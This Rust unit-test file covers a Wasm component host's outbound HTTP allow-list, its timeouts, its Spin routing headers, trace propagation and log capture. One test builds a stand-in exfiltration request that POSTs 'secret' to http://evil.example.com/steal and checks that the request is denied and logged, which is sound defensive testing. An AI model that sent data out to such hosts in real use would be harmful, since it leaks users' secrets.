//! Unit tests of the pieces that need no guest: outbound policy hooks and Spin headers.

use super::*;
use crate::outbound::OutboundHooks;
use std::sync::Mutex;
use wasmtime_wasi_http::{Error, WasiHttpHooks};

#[derive(Default)]
struct Recorder {
    calls: Mutex<Vec<(String, http::Request<Bytes>)>>,
}

impl OutboundHandler for Recorder {
    fn handle(
        &self,
        app_id: &str,
        req: http::Request<Bytes>,
    ) -> Pin<Box<dyn Future<Output = anyhow::Result<http::Response<Bytes>>> + Send + '_>> {
        self.calls.lock().unwrap().push((app_id.to_string(), req));
        Box::pin(async {
            Ok(http::Response::builder()
                .status(201)
                .body(Bytes::from_static(b"created"))?)
        })
    }
}

fn hooks(allowed: &[&str], handler: Arc<Recorder>) -> (OutboundHooks, logs::LogBuffer) {
    let logs = logs::LogBuffer::new("chat-api", None);
    let hooks = OutboundHooks {
        component_id: Arc::from("chat-api"),
        allowed: Arc::new(AllowedHosts::parse(allowed).unwrap()),
        handler,
        logs: logs.clone(),
        traceparent: None,
    };
    (hooks, logs)
}

fn guest_request(uri: &str, body: &'static [u8]) -> http::Request<wasmtime_wasi_http::WasiBody> {
    // A guest body arrives in several frames (chunked, no content-length).
    let frames = body
        .chunks(3)
        .map(|c| Ok::<_, Error>(http_body::Frame::data(Bytes::from_static(c))))
        .collect::<Vec<_>>();
    let body = http_body_util::StreamBody::new(futures::stream::iter(frames)).boxed_unsync();
    http::Request::builder()
        .method("POST")
        .uri(uri)
        .body(body)
        .unwrap()
}

#[tokio::test]
async fn denied_outbound_host_fails_with_http_request_denied() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let fut = hooks.send_request(
        guest_request("http://evil.example.com/steal", b"secret"),
        None,
        Box::new(async { Ok(()) }),
    );
    let result = Pin::from(fut).await;
    assert!(
        matches!(result, Err(Error::HttpRequestDenied)),
        "{:?}",
        result.err()
    );
    assert!(recorder.calls.lock().unwrap().is_empty());
    let logs = logs.contents();
    assert!(logs.contains("chat-api"), "{logs}");
    assert!(logs.contains("http://evil.example.com/steal"), "{logs}");
    assert!(logs.contains("denied"), "{logs}");
}

#[tokio::test]
async fn allowed_outbound_request_reaches_handler_with_whole_body() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, _logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let fut = hooks.send_request(
        guest_request(
            "http://127.0.0.1:3500/v1.0/state/statestore",
            b"[{\"key\":\"a\"}]",
        ),
        None,
        Box::new(async { Ok(()) }),
    );
    let (response, _io) = Pin::from(fut).await.unwrap();
    assert_eq!(response.status(), 201);
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&body[..], b"created");

    let calls = recorder.calls.lock().unwrap();
    assert_eq!(calls.len(), 1);
    let (app_id, req) = &calls[0];
    assert_eq!(app_id, "chat-api");
    assert_eq!(req.uri(), "http://127.0.0.1:3500/v1.0/state/statestore");
    assert_eq!(req.method(), http::Method::POST);
    assert_eq!(&req.body()[..], b"[{\"key\":\"a\"}]");
}

#[tokio::test]
async fn slow_handler_times_out() {
    struct Slow;
    impl OutboundHandler for Slow {
        fn handle(
            &self,
            _: &str,
            _: http::Request<Bytes>,
        ) -> Pin<Box<dyn Future<Output = anyhow::Result<http::Response<Bytes>>> + Send + '_>>
        {
            Box::pin(async {
                tokio::time::sleep(Duration::from_secs(60)).await;
                Ok(http::Response::new(Bytes::new()))
            })
        }
    }
    let logs = logs::LogBuffer::new("chat-api", None);
    let mut hooks = OutboundHooks {
        component_id: Arc::from("chat-api"),
        allowed: Arc::new(AllowedHosts::parse(&["*://*:*"]).unwrap()),
        handler: Arc::new(Slow),
        logs: logs.clone(),
        traceparent: None,
    };
    let options = wasmtime_wasi_http::RequestOptions {
        first_byte_timeout: Some(Duration::from_millis(50)),
        ..Default::default()
    };
    let fut = hooks.send_request(
        guest_request("http://127.0.0.1:3500/", b""),
        Some(options),
        Box::new(async { Ok(()) }),
    );
    let result = Pin::from(fut).await;
    assert!(
        matches!(result, Err(Error::HttpResponseTimeout)),
        "{:?}",
        result.err()
    );
    assert!(logs.contents().contains("timed out"));
}

#[test]
fn spin_headers_for_a_wildcard_route() {
    let req = http::Request::builder()
        .uri("/api/tasks/42?x=1")
        .body(Bytes::new())
        .unwrap();
    let ctx = RequestContext {
        client_addr: "10.1.2.3:4567".parse().unwrap(),
        ..RequestContext::for_route("/api/...")
    };
    let req = spin_request(req, &ctx).unwrap();
    let h = |name: &str| req.headers()[name].to_str().unwrap().to_string();
    assert_eq!(req.uri(), "http://localhost:3000/api/tasks/42?x=1");
    assert_eq!(h("host"), "localhost:3000");
    assert_eq!(h("spin-full-url"), "http://localhost:3000/api/tasks/42?x=1");
    assert_eq!(h("spin-path-info"), "/tasks/42");
    assert_eq!(h("spin-matched-route"), "/api/...");
    assert_eq!(h("spin-raw-component-route"), "/api/...");
    assert_eq!(h("spin-component-route"), "/api");
    assert_eq!(h("spin-base-path"), "/");
    assert_eq!(h("spin-client-addr"), "10.1.2.3:4567");
}

#[test]
fn spin_headers_for_catch_all_and_exact_routes() {
    let req = http::Request::builder()
        .uri("http://example.com:8080/health")
        .body(Bytes::new())
        .unwrap();
    let req = spin_request(req, &RequestContext::default()).unwrap();
    assert_eq!(req.headers()["spin-path-info"], "/health");
    assert_eq!(req.headers()["spin-component-route"], "");
    assert_eq!(
        req.headers()["spin-full-url"],
        "http://example.com:8080/health"
    );

    let req = http::Request::builder()
        .uri("/job/reminder")
        .body(Bytes::new())
        .unwrap();
    let req = spin_request(req, &RequestContext::for_route("/job/reminder")).unwrap();
    assert_eq!(req.headers()["spin-path-info"], "");
    assert_eq!(req.headers()["spin-component-route"], "/job/reminder");
}

#[test]
fn bad_allowed_hosts_fail_load_with_component_id() {
    let host = Host::new(
        Arc::new(Recorder::default()),
        HostOptions {
            pooling: false,
            disk_cache: false,
            ..HostOptions::default()
        },
    )
    .unwrap();
    let err = host
        .load(ComponentConfig {
            id: "chat-api".into(),
            wasm_path: "/nonexistent.wasm".into(),
            allowed_outbound_hosts: vec!["127.0.0.1:3500".into()],
            ..ComponentConfig::default()
        })
        .err()
        .unwrap();
    assert!(format!("{err:#}").contains("chat-api"), "{err:#}");

    let err = host
        .load(ComponentConfig {
            id: "chat-api".into(),
            wasm_path: "/nonexistent.wasm".into(),
            ..ComponentConfig::default()
        })
        .err()
        .unwrap();
    let msg = format!("{err:#}");
    assert!(
        msg.contains("failed to read component chat-api from /nonexistent.wasm"),
        "{msg}"
    );
}

#[test]
fn guest_stdout_and_stderr_land_in_one_buffer() {
    use wasmtime_wasi::cli::StdoutStream;
    let logs = logs::LogBuffer::new("chat-api", None);
    let mut out = logs.stream(logs::Source::Stdout).p2_stream();
    let mut err = logs.stream(logs::Source::Stderr).p2_stream();
    out.write(Bytes::from_static(b"hello from stdout\n"))
        .unwrap();
    err.write(Bytes::from_static(b"oops on stderr\n")).unwrap();
    logs.host_line("a host line");
    assert_eq!(
        logs.contents(),
        "hello from stdout\noops on stderr\n[spin-host] a host line\n"
    );
}

#[tokio::test]
async fn outbound_call_without_traceparent_gets_a_child_of_the_incoming_one() {
    let recorder = Arc::new(Recorder::default());
    let (mut hooks, _logs) = hooks(&["http://127.0.0.1:3500"], recorder.clone());
    let incoming = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    hooks.traceparent = Some(incoming.to_string());
    let fut = hooks.send_request(
        guest_request("http://127.0.0.1:3500/v1.0/state/s", b"[]"),
        None,
        Box::new(async { Ok(()) }),
    );
    assert!(Pin::from(fut).await.is_ok());
    let mut req = guest_request("http://127.0.0.1:3500/v1.0/state/s", b"[]");
    let own = "00-11111111111111111111111111111111-2222222222222222-01";
    req.headers_mut()
        .insert("traceparent", http::HeaderValue::from_static(own));
    let fut = hooks.send_request(req, None, Box::new(async { Ok(()) }));
    assert!(Pin::from(fut).await.is_ok());

    let calls = recorder.calls.lock().unwrap();
    let sent = calls[0].1.headers()["traceparent"].to_str().unwrap();
    assert_eq!(trace::trace_id(sent), trace::trace_id(incoming));
    assert_ne!(sent, incoming);
    assert_eq!(calls[1].1.headers()["traceparent"], own);
}

#[test]
fn log_sink_gets_complete_lines_live_with_the_component_id() {
    let lines = Arc::new(Mutex::new(Vec::<(String, LogSource, String)>::new()));
    let seen = lines.clone();
    let sink: LogSink = Arc::new(move |l: &LogLine<'_>| {
        seen.lock()
            .unwrap()
            .push((l.component.to_string(), l.source, l.line.to_string()));
    });
    let logs = logs::LogBuffer::new("audit", Some(sink));
    logs.write(logs::Source::Stdout, b"hel");
    assert!(lines.lock().unwrap().is_empty());
    logs.write(logs::Source::Stdout, b"lo\nwor");
    logs.write(logs::Source::Stderr, b"oops\r\n");
    logs.write(logs::Source::Stdout, b"ld\n");
    logs.host_line("denied");
    let lines = lines.lock().unwrap();
    let got: Vec<_> = lines
        .iter()
        .map(|(c, s, l)| (c.as_str(), *s, l.as_str()))
        .collect();
    assert_eq!(
        got,
        vec![
            ("audit", LogSource::Stdout, "hello"),
            ("audit", LogSource::Stderr, "oops"),
            ("audit", LogSource::Stdout, "world"),
            ("audit", LogSource::Host, "[spin-host] denied"),
        ]
    );
    assert!(logs.contents().contains("hello\nwor"));
}
